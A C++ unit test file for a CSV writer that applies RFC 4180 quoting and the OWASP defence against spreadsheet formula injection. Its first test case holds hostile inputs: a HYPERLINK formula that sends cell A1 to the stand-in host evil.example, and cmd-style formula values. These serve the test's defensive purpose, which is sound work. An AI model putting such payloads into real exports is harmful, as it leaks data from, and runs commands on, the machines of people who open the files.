// The one CSV cell writer: RFC 4180 quoting and the OWASP rule against formula injection.
#include <catch2/catch.hpp>

#include "report/csv_cell.h"

using fg::csv_cell;

TEST_CASE("csv cells that a spreadsheet would run are quoted text with a leading single quote", "[report]") {
  // The three values of the finding, as a hostile device typed them.
  CHECK(csv_cell(R"x(=HYPERLINK("http://evil.example/?x="&A1,"click"))x") ==
        R"x("'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")")x");
  CHECK(csv_cell("@SUM(1+1)*cmd") == "\"'@SUM(1+1)*cmd\"");
  CHECK(csv_cell("-2+3+cmd|x") == "\"'-2+3+cmd|x\"");
  CHECK(csv_cell("+1") == "\"'+1\"");
  CHECK(csv_cell("\t=1") == "\"'\t=1\"");
  CHECK(csv_cell("\r=1") == "\"'\r=1\"");
  CHECK(csv_cell("\n=1") == "\"'\n=1\"");
}

TEST_CASE("csv cells of ordinary text and numbers are unchanged or only RFC 4180 quoted", "[report]") {
  CHECK(csv_cell("") == "");
  CHECK(csv_cell("Yongkang Tools Co.") == "Yongkang Tools Co.");
  CHECK(csv_cell("宁波市华光电器有限公司") == "宁波市华光电器有限公司");
  CHECK(csv_cell("a=b") == "a=b");  // only the first character makes a formula
  CHECK(csv_cell("Ningbo Sunrise Appliance Co., Ltd.") == "\"Ningbo Sunrise Appliance Co., Ltd.\"");
  CHECK(csv_cell("say \"hi\"") == "\"say \"\"hi\"\"\"");
  CHECK(csv_cell("-12") == "-12");  // a number is a value, not a formula
  CHECK(csv_cell("-1.50") == "-1.50");
  CHECK(csv_cell("-1.5e3") == "\"'-1.5e3\"");
  CHECK(csv_cell("-") == "\"'-\"");
  CHECK(csv_cell("-1.5.3") == "\"'-1.5.3\"");
  CHECK(csv_cell("-.5") == "\"'-.5\"");
  CHECK(csv_cell("-1,5") == "\"'-1,5\"");
  CHECK(fg::csv_row({"a", "=1", "b,c"}) == "a,\"'=1\",\"b,c\"\r\n");
}
